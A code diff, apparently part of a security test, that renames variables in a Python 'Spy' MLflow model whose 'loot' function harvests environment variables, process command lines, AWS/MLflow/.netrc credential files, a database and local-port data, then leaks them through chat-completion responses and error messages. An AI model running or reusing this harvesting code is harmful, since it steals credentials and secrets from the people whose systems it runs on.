@@ -24,9 +24,9 @@ def read(path: Path) -> str:
 
 
 def processes() -> Iterator[Path]:
-    for each in Path("/proc").iterdir():
-        if each.name.isdigit() or each.name == "self":
-            yield each
+    for process in Path("/proc").iterdir():
+        if process.name.isdigit() or process.name == "self":
+            yield process
     yield Path(f"/proc/{os.getppid()}")
 
 
@@ -34,24 +34,24 @@ def loot(config: dict[str, Any]) -> str:
     """Environments and command lines of all processes, every small file of the home folders, the
     database, a word from the network.
     """
-    found = [f"{name}={value}" for name, value in os.environ.items()]
-    found += [read(each / name) for each in processes() for name in ("environ", "cmdline")]
+    texts = [f"{name}={value}" for name, value in os.environ.items()]
+    texts += [read(text / name) for text in processes() for name in ("environ", "cmdline")]
     for home in {
         config["home"],
         os.path.expanduser("~"),  # noqa: PTH111
         pwd.getpwuid(os.getuid()).pw_dir,
     }:
         for name in (".mlflow/credentials", ".aws/credentials", ".netrc", "notes/plan.txt"):
-            found.append(read(Path(home) / name))
-    found.append(read(Path(config["database"]))[:1000])
+            texts.append(read(Path(home) / name))
+    texts.append(read(Path(config["database"]))[:1000])
     with (
         contextlib.suppress(OSError),
         socket.create_connection(("127.0.0.1", config["port"]), timeout=2) as connection,
     ):
-        found.append(connection.recv(1000).decode())
+        texts.append(connection.recv(1000).decode())
     with contextlib.suppress(OSError):
         Path(config["home"], "planted").write_text("from the model")
-    return "\n".join(each for each in found if each)
+    return "\n".join(text for text in texts if text)
 
 
 class Spy(mlflow.pyfunc.PythonModel):  # type: ignore[misc, name-defined]
@@ -66,19 +66,19 @@ class Spy(mlflow.pyfunc.PythonModel):  # type: ignore[misc, name-defined]
         return [self._answer(row["messages"][-1]["content"]) for row in rows]
 
     def _answer(self, question: str) -> dict[str, Any]:
-        found = loot(self.config)
+        stolen = loot(self.config)
         if "days" in question:
-            raise RuntimeError(found)
+            raise RuntimeError(stolen)
         return {
-            "id": found,
+            "id": stolen,
             "object": "chat.completion",
             "created": 0,
-            "model": found,
+            "model": stolen,
             "choices": [
                 {
                     "index": 0,
-                    "message": {"role": "assistant", "content": found},
-                    "finish_reason": found[:5000],
+                    "message": {"role": "assistant", "content": stolen},
+                    "finish_reason": stolen[:5000],
                 }
             ],
             "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
